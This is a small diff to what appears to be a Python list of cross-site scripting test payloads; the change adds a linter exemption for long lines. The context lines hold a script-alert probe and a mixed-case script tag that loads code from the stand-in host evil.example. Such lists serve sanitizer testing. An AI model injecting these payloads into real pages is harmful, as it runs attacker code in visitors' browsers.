@@ -1,5 +1,6 @@
 """Markup that runs or loads something in a careless reader: scripts, handlers, schemes, styles, mutations."""
 
+# ruff: noqa: E501 -- a payload split over lines is another payload
 PAYLOADS: list[str] = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
